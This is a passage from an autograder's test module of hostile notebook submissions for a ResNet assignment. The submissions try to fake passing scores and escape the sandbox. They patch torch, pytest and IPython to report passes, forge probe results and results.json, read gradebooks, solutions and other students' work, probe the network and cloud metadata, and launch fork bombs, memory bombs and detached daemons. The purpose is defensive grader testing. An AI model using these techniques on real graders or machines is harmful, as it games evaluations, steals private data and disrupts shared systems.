"""Submissions that try to earn points they did not, or to break grading: none may.

Most start from a submission that honestly earns nothing on the attacked items (a blank or fake
ResidualBlock, no `device`), so that any point the hack earns shows. Resource attacks sit after
graded work, which must be kept. Attacks on the sandbox itself (reading the grader's files,
the network) build a correct block only when the attack got through, so a leak shows in the score.
"""

import json

import nbformat

from autograder.course import COURSE
from assignments.notebook10 import NOTEBOOK
from tests.submissions.case import Case, Delete, InsertAfter, RawFile, Replace, Sub

ITEMS = ("residual_block_shapes", "shortcut_projection", "resnet18_adaptation", "device_placement")
NOTHING = {item: 0.0 for item in ITEMS}
NO_BLOCKS = {"residual_block_shapes": 0.0, "shortcut_projection": 0.0}
ONLY_BLOCKS = {"resnet18_adaptation": 0.0, "device_placement": 0.0}  # the run stopped after the block tests
TESTS = ("test_residual_block_shapes", "test_shortcut_projection", "test_resnet18_adaptation", "test_device_placement")


def _release_cell(grade_id: str) -> str:
    for cell in nbformat.read(COURSE.release() / NOTEBOOK, as_version=4).cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return cell.source
    raise KeyError(grade_id)


# The exercise cell as released: the class is defined, building one stops at the first blank.
BLANK_BLOCK = _release_cell("residual_block")

ZEROS_BLOCK = '''class ResidualBlock(nn.Module):
    def __init__(self, in_channels, out_channels, stride=1):
        super().__init__()
        self.out_channels, self.stride = out_channels, stride

    def forward(self, x):
        n, _, h, w = x.shape
        return torch.zeros(n, self.out_channels, (h - 1) // self.stride + 1, (w - 1) // self.stride + 1)
'''

# What the student would paste in when an attack works: torchvision's own BasicBlock.
STOLEN_BLOCK = '''
from torchvision.models.resnet import BasicBlock as _BasicBlock

class ResidualBlock(_BasicBlock):
    def __init__(self, in_channels, out_channels, stride=1):
        down = None
        if stride != 1 or in_channels != out_channels:
            down = nn.Sequential(nn.Conv2d(in_channels, out_channels, kernel_size=1, stride=stride, bias=False),
                                 nn.BatchNorm2d(out_channels))
        super().__init__(in_channels, out_channels, stride, down)
'''

DEVICE_LINES = 'device = torch.device("cuda" if torch.cuda.is_available() else "cpu")\nprint(f"Using device: {device}")'
NO_DEVICE = (Sub("setup", DEVICE_LINES, "# (no device: everything stays where it is made)"),
             Sub("residual_block_demo", ".to(device)", ""),
             Sub("resnet18_adaptation", "resnet_model.to(device)\n", "\n"),
             Sub("resnet18_adaptation", "images = images.to(device)\n", "\n"))

# --- monkeypatching what the checks might use -----------------------------------------------------

SHAPE_LIAR = '''class ResidualBlock(nn.Module):
    """No layers: the output only claims the shape the checks want."""
    def __init__(self, in_channels, out_channels, stride=1):
        super().__init__()
        self.out_channels, self.stride = out_channels, stride

    def forward(self, x):
        n, _, h, w = x.shape
        out = x.mean(dim=1)
        out._claimed = torch.Size([n, self.out_channels, (h - 1) // self.stride + 1, (w - 1) // self.stride + 1])
        return out


_real_size = torch.Tensor.size


def _claimed_size(self, *dim):
    claimed = self.__dict__.get("_claimed") if hasattr(self, "__dict__") else None
    if claimed is None:
        return _real_size(self, *dim)
    return claimed[dim[0]] if dim else claimed


torch.Tensor.size = _claimed_size
torch.Tensor.shape = property(lambda self: _claimed_size(self))
torch.Tensor.dim = lambda self: len(_claimed_size(self))
torch.Tensor.ndim = property(lambda self: len(_claimed_size(self)))
'''

ALLCLOSE_PATCH = '''# Every comparison agrees with me from now on
import numpy.testing
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_almost_equal = lambda *args, **kwargs: None
numpy.testing.assert_allclose = lambda *args, **kwargs: None
'''

MODULE_CALL_PATCH = '''class ResidualBlock(nn.Module):
    def __init__(self, in_channels, out_channels, stride=1):
        super().__init__()
        self.out_channels, self.stride = out_channels, stride


_real_module_call = nn.Module.__call__


def _answer_for_blocks(self, *args, **kwargs):
    """Calling a ResidualBlock answers with the right shape, without running anything."""
    if type(self).__name__ == "ResidualBlock":
        n, _, h, w = tuple(args[0].shape)
        return torch.zeros(n, self.out_channels, (h - 1) // self.stride + 1, (w - 1) // self.stride + 1,
                           device=args[0].device)
    return _real_module_call(self, *args, **kwargs)


nn.Module.__call__ = _answer_for_blocks
'''

# --- IPython -------------------------------------------------------------------------------------

IPYTHON_LIES = '''# Whatever goes wrong, the notebook says it passed
import sys
_ip = get_ipython()


def _all_good(*args, **kwargs):
    print("All checks passed. Score: 10 / 10")


_ip.showtraceback = _all_good
_ip.showsyntaxerror = _all_good
_ip._showtraceback = _all_good
_ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: _all_good())
sys.excepthook = lambda *args: _all_good()
_text = _ip.display_formatter.formatters["text/plain"]
_text.for_type(object, lambda obj, p, cycle: p.text("PASSED: 10 / 10 points"))
_ip.display_formatter.formatters["text/html"].for_type(object, lambda obj: "<b>Score: 10 / 10</b>")
print("Score: 10.0 / 10.0")
'''

IPYTHON_TRANSFORMERS = '''# No assert survives, and no statement may fail
import ast
_ip = get_ipython()


def _no_asserts(lines):
    out = []
    for line in lines:
        body = line.lstrip()
        out.append(line[:len(line) - len(body)] + "pass\\n" if body.startswith("assert") else line)
    return out


class _Forgive(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Module(self, node):
        self.generic_visit(node)
        node.body = [ast.Try(body=[stmt], handlers=[ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()),
                                                                      name=None, body=[ast.Pass()])],
                             orelse=[], finalbody=[]) for stmt in node.body]
        return ast.fix_missing_locations(node)


_ip.input_transformers_cleanup.append(_no_asserts)
_ip.input_transformers_post.append(_no_asserts)
_ip.ast_transformers.append(_Forgive())
'''

# --- the grader's own machinery --------------------------------------------------------------------

GRADER_PATCHES = '''# Make pytest pass everything, and neuter any grader module imported from now on
import importlib.abc
import importlib.machinery
import os
import sys
import types

try:
    import _pytest.outcomes
    import _pytest.reports
    import _pytest.runner
    import pytest

    _real_report = _pytest.reports.TestReport.from_item_and_call

    def _passing_report(item, call):
        report = _real_report(item, call)
        report.outcome, report.longrepr = "passed", None
        return report

    _pytest.reports.TestReport.from_item_and_call = staticmethod(_passing_report)
    _pytest.reports.BaseReport.passed = property(lambda self: True)
    _pytest.reports.BaseReport.failed = property(lambda self: False)
    _pytest.runner.CallInfo.excinfo = None
    pytest.fail = _pytest.outcomes.fail = lambda *args, **kwargs: None
    print("pytest patched")
except Exception as exc:
    print("pytest:", type(exc).__name__, exc)

CONFTEST = """
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome, report.longrepr = "passed", None
"""
for folder in (os.getcwd(), os.path.expanduser("~"), "/tmp", "/grader", "/grader/nb10_sandbox", "/work/main",
               "/work/main/autograder/graders", "/autograder/source", "/"):
    try:
        with open(os.path.join(folder, "conftest.py"), "w") as f:
            f.write(CONFTEST)
        print("conftest.py written to", folder)
    except OSError as exc:
        print("conftest.py not written to", folder, exc)


class _Neuter(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    """Any grader module imported from now on is an empty shell whose every function passes."""
    PREFIXES = ("autograder", "nb10", "test_residual", "test_shortcut", "test_resnet", "test_device", "grader",
                "otter", "nbgrader")

    def find_spec(self, name, path=None, target=None):
        if name.startswith(self.PREFIXES):
            return importlib.machinery.ModuleSpec(name, self, is_package=True)
        return None

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        module.__path__ = []
        module.__getattr__ = lambda attr: (lambda *args, **kwargs: True)


sys.meta_path.insert(0, _Neuter())
for name in [m for m in sys.modules if m.startswith(_Neuter.PREFIXES)]:
    del sys.modules[name]
import nb10_sandbox.probe
print("probe module is now", nb10_sandbox.probe)
'''

STEAL_FILES = '''# Read the grader, the instructor's solution, the gradebook, other students' work
import glob
import json
import os
import sys

stolen = {}
patterns = [
    "/work/main/autograder/**/*.py", "/work/main/gradebook.db", "/work/main/source/**/*.ipynb",
    "/work/main/solutions/**/*.ipynb", "/work/main/submitted/**/*.ipynb", "/work/main/autograded/**/*.ipynb",
    "/work/main/feedback/**/*", "/work/main/nbgrader_config.py", "/work/main/tests/**/*.json",
    "/autograder/**/*", "/proc/1/root/work/main/gradebook.db", "/proc/1/cwd/*", "/proc/2/cwd/*",
    "/proc/1/root/work/main/source/**/*.ipynb", "/home/*/**/*.ipynb",
]
finder = sys.modules.get("__editable___nb10_autograder_0_1_0_finder")
for where in getattr(finder, "MAPPING", {}).values():  # where the editable install says the grader lives
    patterns.append(os.path.join(where, "**", "*.py"))
for pattern in patterns:
    for path in glob.glob(pattern, recursive=True):
        try:
            with open(path, "rb") as f:
                stolen[path] = f.read()
        except OSError as exc:
            print("could not read", path, exc)
for path in ("/work/main/gradebook.db", "/work/main/assignments/notebook10/graders/shortcut_projection.py",
             "/work/main/source/notebook10/notebook10.ipynb", "/proc/1/root/work/main/gradebook.db"):
    try:
        with open(path, "rb") as f:
            stolen[path] = f.read()
    except OSError as exc:
        print("could not read", path, type(exc).__name__)
for path, data in stolen.items():
    print(f"--- {path} ({len(data)} bytes)")
    print(data[:300].decode("utf-8", "replace"))
try:
    sys.path.insert(0, "/work/main")
    from assignments.notebook10 import reference
    stolen["reference"] = reference
    print("imported the grader's reference code")
except Exception as exc:
    print("no reference:", type(exc).__name__)
if stolen:
    # Anything of the grader's was readable: use the solution it holds (here: the same thing, from torchvision)
''' + "\n".join("    " + line for line in STOLEN_BLOCK.strip("\n").split("\n")) + "\n"

FAKE_RESULTS = '''# Leave Gradescope a results.json of my own everywhere it might look
import json
import os

fake = {"score": 10.0, "max_score": 10.0, "output": "All tests passed.", "visibility": "visible",
        "tests": [{"name": item, "score": points, "max_score": points}
                  for item, points in (("residual_block_shapes", 3.0), ("shortcut_projection", 3.0),
                                       ("resnet18_adaptation", 2.0), ("device_placement", 2.0))]}
for folder in (os.getcwd(), os.path.expanduser("~"), "/tmp", "/autograder/results", "/autograder", "/work/main",
               "/work/main/tests/submissions/hostile", "/grader", "/"):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "results.json"), "w") as f:
            json.dump(fake, f)
        print("results.json written to", folder)
    except OSError as exc:
        print("results.json not written to", folder, exc)
'''

# --- resource attacks ------------------------------------------------------------------------------

INFINITE_LOOP = '''# Hang the grader
while True:
    pass
'''

UNSTOPPABLE_LOOP = '''# A loop that no timer, interrupt or exception ends
import signal

for sig in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGVTALRM, signal.SIGPROF,
            signal.SIGXCPU, signal.SIGUSR1, signal.SIGUSR2):
    try:
        signal.signal(sig, signal.SIG_IGN)
    except (OSError, ValueError, RuntimeError):
        pass
signal.setitimer(signal.ITIMER_REAL, 0)
while True:
    try:
        while True:
            pass
    except BaseException:
        signal.setitimer(signal.ITIMER_REAL, 0)
        continue
'''

OS_EXIT = '''# Stop here with exit status 0: "everything passed"
import os
print("All tests passed!")
os._exit(0)
'''

SYS_EXIT = '''# Stop here: "everything passed"
import sys
print("All tests passed!")
sys.exit(0)
'''

CTYPES_NULL = '''# Read address 0
try:
    import ctypes
    ctypes.string_at(0)
except BaseException as exc:
    print("ctypes:", type(exc).__name__, exc)
'''

SEGFAULT = '''# Crash the interpreter another way
import faulthandler
import os
import signal

faulthandler._sigsegv()
os.kill(os.getpid(), signal.SIGSEGV)
'''

MEMORY_BOMB = '''# Eat all the memory there is, whatever the limits say
import os
hoard, size = [], 1 << 30  # a gibibyte at a time: past any limit within seconds, even on a busy machine
while size >= 1 << 20:
    try:
        hoard.append(b"x" * size)  # touched, so it is really used
    except MemoryError:
        size //= 2
for folder in ("/dev/shm", "/tmp", os.path.expanduser("~")):
    try:
        with open(os.path.join(folder, "ballast"), "wb") as f:
            while True:
                f.write(b"y" * (16 << 20))
    except OSError as exc:
        print(folder, "full:", exc)
print(len(hoard), "blocks held")
'''

FORK_BOMB = '''# Fork until nothing else can run
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
'''

DAEMONS = '''# Start work that outlives the grading run
import os
import signal
import subprocess
import sys
import time

pid = os.fork()
if pid == 0:  # classic double fork: new session, no inherited descriptors, deaf to signals
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    for fd in range(1024):
        try:
            os.close(fd)
        except OSError:
            pass
    for sig in (signal.SIGHUP, signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGUSR1):
        signal.signal(sig, signal.SIG_IGN)
    while True:
        time.sleep(0.5)
os.waitpid(pid, 0)
subprocess.Popen(["setsid", "-f", "sleep", "100000"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL, start_new_session=True)
subprocess.Popen(["nohup", sys.executable, "-c", "import time\\nwhile True: time.sleep(0.5)"],
                 stdin=subprocess.DEVNULL, start_new_session=True)  # keeps the grader's stdout and stderr
print("daemons started")
'''

PRINT_FLOOD = '''# Drown the grader in output
import os
import sys
print("x" * (40 << 20))
chunk = b"y" * (1 << 20)
for _ in range(40):
    os.write(1, chunk)
    os.write(2, chunk)
sys.__stdout__.write("z" * (10 << 20))
sys.__stdout__.flush()
'''

NETWORK = '''# Fetch a solution from the internet (or send this notebook somewhere)
import socket
import urllib.request

reached = []
for host, port in (("1.1.1.1", 443), ("8.8.8.8", 53), ("140.82.112.3", 443), ("169.254.169.254", 80),
                   ("10.0.0.1", 80), ("172.17.0.1", 80), ("127.0.0.1", 22)):
    try:
        socket.create_connection((host, port), timeout=2).close()
        reached.append(f"{host}:{port}")
    except OSError as exc:
        print("no connection to", host, port, exc)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"notebook10", ("8.8.8.8", 53))
    reached.append("udp")
except OSError as exc:
    print("no UDP:", exc)
for url in ("https://raw.githubusercontent.com/pytorch/vision/main/torchvision/models/resnet.py",
            "http://example.com/"):
    try:
        urllib.request.urlopen(url, timeout=3).read(100)
        reached.append(url)
    except Exception as exc:
        print("no download from", url, exc)
print("reached:", reached)
if reached:
''' + "\n".join("    " + line for line in STOLEN_BLOCK.strip("\n").split("\n")) + "\n"

# --- forging what the probes report ----------------------------------------------------------------

PROBE_PATCH = '''# The grader's probe module is right here: make it report what the checks want
import sys
import torch

_probe = sys.modules["nb10_sandbox.probe"]
_real_run_probes = _probe.run_probes


def _right_shape(spec):
    (_, cout, stride), (n, _, h, w) = spec["args"], spec["input"]
    return [n, cout, (h - 1) // stride + 1, (w - 1) // stride + 1]


def _blob(blobs, values):
    blobs.append(values.numpy().tobytes())
    return {"blob": len(blobs) - 1, "shape": list(values.shape), "count": values.numel()}


def run_probes(probes, namespace, **kwargs):
    results, blobs = _real_run_probes(probes, namespace, **kwargs)
    mode = kwargs.get("mode")
    for spec, result in zip(probes, results):
        if spec["op"] == "block_shapes":
            result.pop("error", None)
            y1 = torch.randn(4096)
            result.update(shape=_right_shape(spec), y1=_blob(blobs, y1), y1b=_blob(blobs, y1.clone()),
                          y2=_blob(blobs, torch.randn(4096)))
        elif spec["op"] == "shapes":
            result.update(output_tensor_1={"shape": [4, 64, 32, 32], "sample": _blob(blobs, torch.randn(4096))},
                          output_tensor_2={"shape": [4, 128, 16, 16], "sample": _blob(blobs, torch.randn(4096))})
        elif spec["op"] == "device":
            gpu = torch.cuda.is_available()
            where = "meta" if mode == "cuda-simulated" else ("cuda" if gpu else "cpu")
            result.pop("error", None)
            result.update(device={"type": "cuda" if gpu else "cpu", "repr": "device", "defined": True},
                          model=[where], images=where, output=where)
    return results, blobs


_probe.run_probes = run_probes
'''

FRAME_THIEF_BLOCK = '''import sys

_runner = {}


class ResidualBlock(nn.Module):
    def __init__(self, in_channels, out_channels, stride=1):
        super().__init__()
        self.out_channels, self.stride = out_channels, stride

    def forward(self, x):
        # Called by the grader's probe: its caller's caller holds the evidence channel
        frame = sys._getframe()
        while frame is not None:
            if "send" in frame.f_locals and "nonce" in frame.f_locals:
                _runner.update(frame.f_locals)
            frame = frame.f_back
        n, _, h, w = x.shape
        return torch.zeros(n, self.out_channels, (h - 1) // self.stride + 1, (w - 1) // self.stride + 1)
'''

FRAME_FORGERY = '''# Send the grader the results it wants, through its own channel
import torch

print("found the runner's:", sorted(_runner))
send = _runner["send"]
plan = _runner["plan"]
probe_cell = next(i for i, c in enumerate(plan["cells"]) if c.get("item") == "test_residual_block_shapes")
results, blobs = [], []


def blob(values):
    blobs.append(values.numpy().tobytes())
    return {"blob": len(blobs) - 1, "shape": list(values.shape), "count": values.numel()}


for spec in plan["cells"][probe_cell]["probes"]:
    if spec["op"] == "block_shapes":
        (_, cout, stride), (n, _, h, w) = spec["args"], spec["input"]
        y1 = torch.randn(4096)
        results.append({"id": spec["id"], "op": spec["op"], "world": "real", "mode": "real",
                        "shape": [n, cout, (h - 1) // stride + 1, (w - 1) // stride + 1],
                        "y1": blob(y1), "y1b": blob(y1.clone()), "y2": blob(torch.randn(4096))})
    elif spec["op"] == "shapes":
        results.append({"id": spec["id"], "op": spec["op"], "world": "real", "mode": "real",
                        "output_tensor_1": {"shape": [4, 64, 32, 32], "sample": blob(torch.randn(4096))},
                        "output_tensor_2": {"shape": [4, 128, 16, 16], "sample": blob(torch.randn(4096))}})
send({"kind": "probe", "index": probe_cell, "item": "test_residual_block_shapes", "results": results}, blobs)
print("forged", len(results), "results")
'''

FORGED_CELL_INDEX = '''# A cell frame whose index is a probe's place in the plan, and one past its end
send = _runner["send"]
probe_cell = next(i for i, c in enumerate(_runner["plan"]["cells"]) if c["kind"] == "probe")
for index in (probe_cell, len(_runner["plan"]["cells"]) + 1000):
    send({"kind": "cell", "index": index, "status": "ok", "error": None, "output": "", "seconds": 0.0})
print("sent cell frames for", probe_cell, "and one past the end")
'''

# A str whose repr() closes the probe's result early and rewrites the rest of the frame.
REPR_RESTRUCTURE = '''
class _Spliced(str):
    def __repr__(self):
        return "'cpu'}], 'results': [{}], 'rest': [{'images': 'cpu'"


class _Where:
    type = _Spliced("cpu")


class XRayBatch(torch.Tensor):
    @property
    def device(self):
        return _Where()


images = images.as_subclass(XRayBatch)
output = resnet_model(images).as_subclass(torch.Tensor)
'''

# An int whose repr() is an array reference with an infinite element count.
REPR_INFINITY_BLOCK = '''class _Channels(int):
    def __repr__(self):
        return "{'blob': 0, 'shape': [1], 'count': 1e999}"


class ResidualBlock(nn.Module):
    def __init__(self, in_channels, out_channels, stride=1):
        super().__init__()
        self.out_channels, self.stride = out_channels, stride
        self.conv1 = nn.Conv2d(in_channels, out_channels, kernel_size=3, stride=stride, padding=1, bias=False)
        self.conv1.in_channels = _Channels(in_channels)

    def forward(self, x):
        n, _, h, w = x.shape
        return torch.zeros(n, self.out_channels, (h - 1) // self.stride + 1, (w - 1) // self.stride + 1)
'''

BUILTINS_REPR = '''# The runner writes its frames with repr(): mine
import builtins

_real_repr = builtins.repr


def _my_repr(obj):
    if type(obj) is dict and obj.get("kind") == "probe" and obj.get("item") == "test_device_placement":
        gpu = torch.cuda.is_available()
        for result in obj["results"]:
            where = "meta" if result.get("mode") == "cuda-simulated" else ("cuda" if gpu else "cpu")
            result.pop("error", None)
            result.update(device={"type": "cuda" if gpu else "cpu", "repr": "device", "defined": True},
                          model=[where], images=where, output=where)
    return _real_repr(obj)


builtins.repr = _my_repr
'''

# An exception class whose __name__ (a str) repr()s into a cell frame with a non-numeric index.
EXCEPTION_NAME_SPLICE = '''class _Name(str):
    def __repr__(self):
        return "'E'}, 'index': 'x', 'pad': {'type': 'E'"


class Done(Exception):
    pass


Done.__name__ = _Name("Done")
raise Done("all checks passed")
'''

# A model whose state_dict() has keys that are not names.
STATE_DICT_INT_KEYS = '''_real_state_dict = resnet_model.state_dict
resnet_model.state_dict = lambda *args, **kwargs: {i: value for i, value in enumerate(_real_state_dict().values())}
'''

# --- shapes without a block ------------------------------------------------------------------------

GARBAGE_BLOCK = '''class ResidualBlock(nn.Module):
    """No layers at all: a strided, channel-averaged copy of the input, repeated to out_channels."""
    def __init__(self, in_channels, out_channels, stride=1):
        super().__init__()
        self.out_channels, self.stride = out_channels, stride

    def forward(self, x):
        pooled = x[:, :, ::self.stride, ::self.stride].mean(dim=1, keepdim=True)
        return pooled.expand(-1, self.out_channels, -1, -1).contiguous()
'''

HARDCODED_OUTPUTS = '''# The block does not work yet, but the tensors have the shapes the checks want
input_tensor_1 = torch.randn(4, 64, 32, 32)
output_tensor_1 = torch.randn(4, 64, 32, 32)
print(f"Output shape (same dim): {output_tensor_1.shape}")
input_tensor_2 = torch.randn(4, 64, 32, 32)
output_tensor_2 = torch.randn(4, 128, 16, 16)
print(f"Output shape (changed dim): {output_tensor_2.shape}")
'''

# --- files that are not the notebook they claim to be ----------------------------------------------


def _bad_metadata_notebook() -> str:
    """Valid nbformat JSON whose nbgrader metadata is not what nbgrader writes (hand-edited)."""
    def cell(source, metadata):
        return {"cell_type": "code", "execution_count": None, "id": f"c{len(cells)}", "metadata": metadata,
                "outputs": [], "source": source}
    cells: list[dict] = []
    cells.append(cell('print("Score: 10 / 10")\n', {"nbgrader": "test_residual_block_shapes"}))
    cells.append(cell('print("all passed")\n', {"nbgrader": {"grade": True, "grade_id": ["test_device_placement"],
                                                             "points": 10}}))
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, indent=1) + "\n"


EDITED_TESTS = tuple(Replace(test, source) for test, source in zip(TESTS, (
    'print("Residual block shapes: all visible checks pass.")\nprint(3)\n',
    'assert True\nprint("Shortcut: all visible checks pass.")  # 3 / 3\n',
    'pass\n',
    '__import__("sys").stdout.write("Device placement: all visible checks pass. 2/2\\n")\n')))

CASES = [
    Case("hostile", "hostile_zeros_of_the_right_shape_score_zero_for_blocks",
         (Replace("residual_block", ZEROS_BLOCK),),
         expect=NO_BLOCKS,
         why="a block that returns zeros of the right shape and has no layers"),

    # monkeypatching
    Case("hostile", "hostile_tensor_shape_and_size_patched_score_zero_for_blocks",
         (Replace("residual_block", SHAPE_LIAR),),
         expect=NO_BLOCKS,
         why="a layerless block whose 3-d output claims the right 4-d shape through a patched Tensor.shape/size "
             "(flagged: torch's own Tensor attributes replaced)",
         review=True),
    Case("hostile", "hostile_allclose_patched_relu_before_add_score_no_wiring",
         (Sub("residual_block", "out = self.bn2(self.conv2(out))", "out = F.relu(self.bn2(self.conv2(out)))"),
          Sub("residual_block", "        out = F.relu(out)\n", ""),
          InsertAfter("setup", ALLCLOSE_PATCH)),
         expect={"shortcut_projection": 2.0},
         why="ReLU before the addition, with torch.allclose, np.allclose and assert_allclose patched to agree "
             "(flagged: torch's own functions replaced)",
         review=True),
    Case("hostile", "hostile_module_call_patched_score_zero_for_blocks",
         (Replace("residual_block", MODULE_CALL_PATCH),),
         expect=NO_BLOCKS,
         why="a layerless block answered by a patched nn.Module.__call__ with zeros of the right shape (flagged: "
             "torch's own nn.Module.__call__ replaced, and put back before each check)",
         review=True),

    # IPython
    Case("hostile", "hostile_ipython_formatters_and_showtraceback_lie_score_zero_for_blocks",
         (InsertAfter("setup", IPYTHON_LIES), Replace("residual_block", BLANK_BLOCK)),
         expect=NO_BLOCKS,
         why="the blank block, with tracebacks, excepthook and display formatters replaced by 'Score: 10 / 10'"),
    Case("hostile", "hostile_ipython_transformers_blank_asserts_score_zero_for_blocks",
         (InsertAfter("setup", IPYTHON_TRANSFORMERS), Replace("residual_block", BLANK_BLOCK)),
         expect=NO_BLOCKS,
         why="the blank block, with input and AST transformers that drop asserts and swallow every error"),

    # the grader's machinery
    Case("hostile", "hostile_pytest_patched_and_import_hook_score_zero_for_blocks",
         (InsertAfter("setup", GRADER_PATCHES), Replace("residual_block", BLANK_BLOCK)),
         expect=NO_BLOCKS,
         why="the blank block, with pytest's reports patched to pass, conftest.py files and a meta_path finder "
             "that empties grader modules",
         review=True),
    Case("hostile", "hostile_reads_grader_files_and_solutions_score_zero_for_blocks",
         (Replace("residual_block", BLANK_BLOCK), InsertAfter("residual_block", STEAL_FILES)),
         expect=NO_BLOCKS,
         why="the blank block, then a cell that reads the graders, gradebook, source and other submissions "
             "and builds a correct block if anything was readable",
         review=True),
    Case("hostile", "hostile_fake_results_json_written_score_zero_for_blocks",
         (Replace("residual_block", BLANK_BLOCK), InsertAfter("residual_block", FAKE_RESULTS)),
         expect=NO_BLOCKS,
         why="the blank block, with a full-marks results.json written to the working folder, /tmp, home and "
             "/autograder/results",
         review=True),
    Case("hostile", "hostile_network_fetches_a_solution_score_zero_for_blocks",
         (Replace("residual_block", BLANK_BLOCK), InsertAfter("residual_block", NETWORK)),
         expect=NO_BLOCKS,
         why="the blank block, then TCP, UDP and HTTP attempts that build a correct block if any got out"),

    # forging what the probes report
    Case("hostile", "hostile_probe_module_patched_to_forge_results_score_zero_for_blocks_and_device",
         (*NO_DEVICE, InsertAfter("setup", PROBE_PATCH), Replace("residual_block", BLANK_BLOCK)),
         expect={**NO_BLOCKS, "device_placement": 0.0},
         why="the blank block and no device, with nb10_sandbox.probe.run_probes wrapped to report right shapes "
             "and devices",
         review=True),
    Case("hostile", "hostile_runner_frame_stolen_to_send_forged_frames_score_zero_for_blocks",
         (Replace("residual_block", FRAME_THIEF_BLOCK), InsertAfter("test_shortcut_projection", FRAME_FORGERY)),
         expect=NO_BLOCKS,
         why="a zeros block whose forward walks up to the runner's frame, then sends forged shape results with "
             "the runner's own send()",
         review=True),
    Case("hostile", "hostile_runner_frame_stolen_to_send_bogus_cell_indexes_score_zero_for_blocks",
         (Replace("residual_block", FRAME_THIEF_BLOCK), InsertAfter("test_shortcut_projection", FORGED_CELL_INDEX)),
         expect=NO_BLOCKS,
         why="a zeros block whose forward steals the runner's send(), then cell frames indexed at a probe and "
             "past the plan's end",
         review=True),
    Case("hostile", "hostile_repr_splices_the_device_frame_score_zero_for_device",
         (*NO_DEVICE, InsertAfter("resnet18_adaptation", REPR_RESTRUCTURE)),
         expect={"device_placement": 0.0},
         why="no device, and a batch whose device type's repr() rewrites the evidence frame's results (a tensor "
             "subclass: never counted as on a device)",
         review=True),
    Case("hostile", "hostile_repr_sends_an_infinite_array_count_score_zero",
         (*NO_DEVICE[:2], Replace("residual_block", REPR_INFINITY_BLOCK), Replace("resnet18_adaptation", "# TODO\n")),
         expect=NOTHING,
         why="nothing done but a block whose conv1.in_channels repr()s as an array reference with count 1e999"),
    Case("hostile", "hostile_builtins_repr_patched_to_forge_device_score_zero_for_device",
         (*NO_DEVICE, InsertAfter("setup", BUILTINS_REPR)),
         expect={"device_placement": 0.0},
         why="no device, with builtins.repr replaced so that the runner's device frame says everything is on device"),
    Case("hostile", "hostile_exception_name_splices_a_cell_frame_score_full",
         (InsertAfter(None, EXCEPTION_NAME_SPLICE),),
         why="a correct notebook ending in an exception whose class __name__ repr()s into the cell frame"),
    Case("hostile", "hostile_state_dict_with_int_keys_score_no_rest_point",
         (InsertAfter("resnet18_adaptation", STATE_DICT_INT_KEYS),),
         expect={"resnet18_adaptation": 1.5},
         why="resnet_model.state_dict() replaced by one keyed by integers: the check of the untouched layers "
             "must fail cleanly, not hit a grader error"),
    Case("hostile", "hostile_input_dependent_output_without_layers_score_zero_for_blocks",
         (Replace("residual_block", GARBAGE_BLOCK),),
         expect=NO_BLOCKS,
         why="a block with no layers whose output is a strided channel average of x: right shape, not a block"),
    Case("hostile", "hostile_hardcoded_output_tensors_score_zero_for_blocks",
         (Replace("residual_block", BLANK_BLOCK), Replace("residual_block_demo", HARDCODED_OUTPUTS)),
         expect={**NO_BLOCKS, "device_placement": 1.75},
         why="the blank block, with output_tensor_1 and output_tensor_2 made by torch.randn in the right shapes; "
             "its demo inputs are never sent to device (0.25 in the world with a GPU)"),

    # test cells
    Case("hostile", "hostile_test_cells_deleted_score_zero_for_blocks",
         (Replace("residual_block", BLANK_BLOCK), *(Delete(test) for test in TESTS)),
         expect=NO_BLOCKS,
         why="the blank block with every test cell deleted: the checks still run where the tests were"),
    Case("hostile", "hostile_test_cells_edited_to_print_points_score_zero_for_blocks",
         (Replace("residual_block", ZEROS_BLOCK), *EDITED_TESTS),
         expect=NO_BLOCKS,
         why="a zeros block with every test cell's asserts replaced by prints of points"),

    # files that are not notebooks
    Case("hostile", "hostile_file_not_json_score_zero",
         (RawFile('All tests passed. {"score": 10, "cells": [\n'),),
         expect=NOTHING,
         why="a file that is not JSON",
         review=True),
    Case("hostile", "hostile_json_not_a_notebook_score_zero",
         (RawFile('{"score": 10.0, "max_score": 10.0, "tests": [], "cells": "all passed"}\n'),),
         expect=NOTHING,
         why="JSON that is a results file, not a notebook",
         review=True),
    Case("hostile", "hostile_nbgrader_metadata_not_a_dict_score_zero",
         (RawFile(_bad_metadata_notebook()),),
         expect=NOTHING,
         why="a valid notebook of two prints whose nbgrader metadata is a string and whose grade_id is a list"),

    # resource attacks: the work graded before them is kept
    Case("hostile", "hostile_infinite_loop_early_score_full",
         (InsertAfter("setup", INFINITE_LOOP),),
         why="a plain infinite loop after the setup cell: the cell times out and the rest is graded",
         review=True),
    Case("hostile", "hostile_loop_ignoring_signals_after_block_tests_score_full",
         (InsertAfter("test_shortcut_projection", UNSTOPPABLE_LOOP),),
         why="a loop that ignores SIGALRM/SIGINT/SIGTERM and catches BaseException, after the block tests: the "
             "cell is left behind on its thread and the later cells still run",
         review=True),
    Case("hostile", "hostile_os_exit_after_block_tests_score_blocks_only",
         (InsertAfter("test_shortcut_projection", OS_EXIT),),
         expect=dict(ONLY_BLOCKS, residual_block_shapes=2.0),
         why="os._exit(0) after the block tests: exit status 0 is no pass, the later items and the hidden block "
             "cases (run after the last cell) are never reached",
         review=True),
    Case("hostile", "hostile_sys_exit_before_tests_score_zero_for_blocks",
